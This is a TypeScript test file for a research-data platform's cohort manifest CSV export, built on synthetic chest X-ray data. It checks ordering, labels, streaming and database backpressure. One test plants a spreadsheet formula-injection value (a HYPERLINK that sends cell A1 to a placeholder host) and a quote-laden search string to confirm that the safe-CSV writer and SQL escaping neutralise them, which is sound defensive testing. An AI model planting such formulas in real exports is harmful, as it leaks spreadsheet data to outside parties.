import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { labDatasets, storedFiles } from "@/db/schema";
import { iterateManifest, MANIFEST_APPLICATION_NAME, manifestCsvStream } from "@/lib/api/cohort-manifest";
import { csvChunk } from "@/lib/csv/safe-csv";
import { MANIFEST_COLUMNS } from "@/lib/api/schemas";
import { getDb } from "@/lib/db/client";
import { LABELS } from "@/lib/mimic/import/file-specs";
import { createLab } from "@/lib/factories";
import { parseStudyFilters, type StudyFilters } from "@/lib/mimic/browse/study-filters";
import { findDataset, importMimicDirectory } from "@/lib/mimic/import/import-directory";
import { writeSyntheticVersion } from "@/lib/mimic/synth/write-version";
import { isolatedDatabaseForFile } from "../support/isolated-database";

// Its own database: the import swaps the whole dataset version's partition.
isolatedDatabaseForFile();

let root: string;
let datasetId: string;
let labId: string;
const stored = new Map<string, { size: number; sha256: string }>();

beforeAll(async () => {
  root = mkdtempSync(path.join(tmpdir(), "labgate-manifest-"));
  await writeSyntheticVersion({ out: root, project: "mimic-cxr-jpg", version: "2.0.0", studies: 300, seed: 5 });
  const ds = (await findDataset({ slug: "mimic-cxr-jpg", version: "2.0.0" }))!;
  datasetId = ds.id;
  await importMimicDirectory({ dir: root, dataset: ds });
  labId = (await createLab(getDb())).id;
  await getDb().insert(labDatasets).values({ labId, datasetId });
  // Every 7th image is in this lab's storage; another lab's copy must not show.
  const other = (await createLab(getDb())).id;
  const images = await getDb().execute<{ path: string }>(sql`select path from mimic_image where dataset_id = ${datasetId} order by path`);
  for (const [i, { path: p }] of images.rows.entries()) {
    if (i % 7 !== 0) continue;
    const f = { size: 1000 + i, sha256: i.toString(16).padStart(64, "a") };
    stored.set(p, f);
    await getDb().insert(storedFiles).values({ labId, datasetId, path: p, storageKey: `k/${i}`, size: f.size, sha256: f.sha256, storedAt: new Date() });
    await getDb().insert(storedFiles).values({ labId: other, datasetId, path: p, storageKey: `o/${i}`, size: 1, sha256: "f".repeat(64), storedAt: new Date() });
  }
}, 120_000);
afterAll(() => rmSync(root, { recursive: true, force: true }));

function filters(q: string): StudyFilters {
  const parsed = parseStudyFilters(new URLSearchParams(q));
  if (!parsed.ok) throw new Error(parsed.errors.join("; "));
  return parsed.filters;
}

async function collect(q: string, studiesPerBatch: number) {
  const rows: Partial<Record<(typeof MANIFEST_COLUMNS)[number], string>>[] = [];
  for await (const r of iterateManifest({ labId, datasetId, filters: filters(q), studiesPerBatch })) rows.push(Object.fromEntries(MANIFEST_COLUMNS.map((c, i) => [c, String(r[i])])));
  return rows;
}

describe("a cohort manifest", () => {
  it("lists every image of the cohort's studies once, in order, across batch boundaries, with this lab's size and SHA-256", async () => {
    const rows = await collect("", 7);
    const expected = await getDb().execute<{ path: string; dicom_id: string; study_id: number; split: string | null }>(
      sql`select path, dicom_id, study_id, split from mimic_image where dataset_id = ${datasetId} order by study_id, dicom_id`,
    );
    expect(rows.map((r) => r.path)).toEqual(expected.rows.map((r) => r.path));
    expect(rows.map((r) => r.split ?? "")).toEqual(expected.rows.map((r) => r.split ?? ""));
    for (const r of rows) {
      const f = stored.get(r.path!);
      expect([r.in_storage, r.size, r.sha256], r.path).toEqual(f ? ["1", String(f.size), f.sha256] : ["0", "", ""]);
    }
    expect(rows.filter((r) => r.in_storage === "1")).toHaveLength(stored.size);
    // Every label cell as the source CSVs write it (1.0, 0.0, -1.0 or empty), from the arrays read as arrays.
    const labels = await getDb().execute<{ study_id: number; chexpert: (number | null)[] | null; negbio: (number | null)[] | null }>(
      sql`select study_id, chexpert, negbio from mimic_study where dataset_id = ${datasetId}`,
    );
    const byStudy = new Map(labels.rows.map((l) => [Number(l.study_id), l]));
    const text = (v: number | null | undefined) => (v === null || v === undefined ? "" : v.toFixed(1));
    const seen = new Set<string>();
    for (const r of rows) {
      const l = byStudy.get(Number(r.study_id))!;
      for (const [i, label] of LABELS.entries()) {
        const cells = [(r as Record<string, string>)[`chexpert_${label}`], (r as Record<string, string>)[`negbio_${label}`]];
        expect(cells, `${r.study_id} ${label}`).toEqual([text(l.chexpert?.[i]), text(l.negbio?.[i])]);
        cells.forEach((c) => seen.add(c!));
      }
    }
    expect(seen).toEqual(new Set(["1.0", "0.0", "-1.0", ""]));
  });

  it("follows the cohort's filter and writes labels as the source CSVs do", async () => {
    const rows = await collect("label=Edema:positive&split=train", 3);
    const expected = await getDb().execute<{ path: string }>(sql`
      select i.path from mimic_image i join mimic_study d on d.dataset_id = i.dataset_id and d.study_id = i.study_id
      where i.dataset_id = ${datasetId} and d.chexpert[4] = 1 and 'train' = any(d.splits) order by i.study_id, i.dicom_id`);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.map((r) => r.path)).toEqual(expected.rows.map((r) => r.path));
    expect(new Set(rows.map((r) => r.chexpert_Edema))).toEqual(new Set(["1.0"]));
  });

  it("streams exactly the bytes the safe-CSV writer makes of those rows, though PostgreSQL writes them", async () => {
    // Cells that must be neutralised, quoted or left empty, in the image table the COPY reads.
    const [a, b] = (await getDb().execute<{ dicom_id: string }>(sql`select dicom_id from mimic_image where dataset_id = ${datasetId} order by study_id, dicom_id limit 2`)).rows;
    await getDb().execute(sql`update mimic_image set view_position = ${'=HYPERLINK("http://x.test/?"&A1,"a")'}, split = ${"-2+3"} where dataset_id = ${datasetId} and dicom_id = ${a!.dicom_id}`);
    await getDb().execute(sql`update mimic_image set view_position = ${"line\nbreak, \"quoted\""}, split = ${""} where dataset_id = ${datasetId} and dicom_id = ${b!.dicom_id}`);
    for (const [q, perBatch] of [["", 7], ["", 2000], ["label=Edema:positive&split=train", 5]] as const) {
      const rows: unknown[][] = [[...MANIFEST_COLUMNS]];
      for await (const r of iterateManifest({ labId, datasetId, filters: filters(q), studiesPerBatch: perBatch })) rows.push(r);
      const streamed = Buffer.from(await new Response(manifestCsvStream({ labId, datasetId, filters: filters(q) })).arrayBuffer()).toString("utf8");
      expect(streamed.length, q).toBeGreaterThan(1000);
      expect(streamed, `${q} by ${perBatch}`).toBe(csvChunk(rows));
    }
    const text = Buffer.from(await new Response(manifestCsvStream({ labId, datasetId, filters: filters("") })).arrayBuffer()).toString("utf8");
    expect(text).toContain(`'=HYPERLINK(""http://x.test/?""&A1,""a"")"`);
    expect(text).toContain(",'-2+3,");
    // The report search's free text reaches the COPY as an escaped literal (this version has no reports: no rows, and no error).
    const searched = await new Response(manifestCsvStream({ labId, datasetId, filters: filters(`q=${encodeURIComponent("it's \\' \"pleural effusion\" -x')")}`) })).text();
    expect(searched).toBe(csvChunk([[...MANIFEST_COLUMNS]]));
  });

  it("is pulled only as fast as its reader reads: PostgreSQL waits to write while the reader pauses, and a reader that goes away ends the COPY", async () => {
    // ~80 MB of manifest, far more than every buffer between PostgreSQL and the reader (the socket's
    // send and receive buffers, the COPY stream's 16 KiB, the web stream's one chunk): long paths,
    // stored compressed, written out whole.
    const extra = 20_000;
    await getDb().execute(sql`insert into mimic_study (dataset_id, study_id, subject_id) select ${datasetId}, 90000000 + n, 19000000 + n from generate_series(1, ${extra}) n`);
    await getDb().execute(sql`
      insert into mimic_study_facet (dataset_id, study_id, subject_id, chexpert_bits, negbio_bits, view_bits, flags, tokens)
      select ${datasetId}, 90000000 + n, 19000000 + n, 0, 0, 0, 0, '{}' from generate_series(1, ${extra}) n`);
    await getDb().execute(sql`
      insert into mimic_image (dataset_id, dicom_id, study_id, subject_id, path)
      select ${datasetId}, 'bulk' || n, 90000000 + n, 19000000 + n, 'files/bulk/' || n || '/' || repeat('x', 4000) || '.dcm' from generate_series(1, ${extra}) n`);
    const backend = async () =>
      (await getDb().execute<{ state: string; wait_event: string | null }>(sql`
        select state, wait_event from pg_stat_activity where datname = current_database() and application_name = ${MANIFEST_APPLICATION_NAME} and backend_type = 'client backend'`)).rows;
    const until = async (what: string, ok: () => Promise<boolean>) => {
      for (let i = 0; i < 600; i++) {
        if (await ok()) return;
        await new Promise((r) => setTimeout(r, 100));
      }
      throw new Error(`never: ${what}`);
    };
    try {
      const reader = manifestCsvStream({ labId, datasetId, filters: filters("") }).getReader();
      let read = 0;
      while (read < 1_000_000) {
        const { value, done } = await reader.read();
        if (done) throw new Error("the manifest ended before 1 MB");
        read += value.byteLength;
      }
      // The reader pauses. PostgreSQL is left waiting to write: the server is not draining the COPY into memory.
      await until("PostgreSQL waits to write the manifest", async () => (await backend()).some((b) => b.state === "active" && b.wait_event === "ClientWrite"));
      await new Promise((r) => setTimeout(r, 2000));
      expect(await backend(), "still waiting after two more seconds").toEqual([{ state: "active", wait_event: "ClientWrite" }]);
      // The reader goes away: the COPY's connection is closed, the statement ends.
      await reader.cancel();
      await until("the manifest's connection is closed", async () => {
        const left = await getDb().execute(sql`select 1 from pg_stat_activity where datname = current_database() and application_name = ${MANIFEST_APPLICATION_NAME}`);
        return left.rows.length === 0;
      });
    } finally {
      await getDb().execute(sql`delete from mimic_image where dataset_id = ${datasetId} and study_id > 90000000`);
      await getDb().execute(sql`delete from mimic_study_facet where dataset_id = ${datasetId} and study_id > 90000000`);
      await getDb().execute(sql`delete from mimic_study where dataset_id = ${datasetId} and study_id > 90000000`);
    }
  }, 120_000);
});
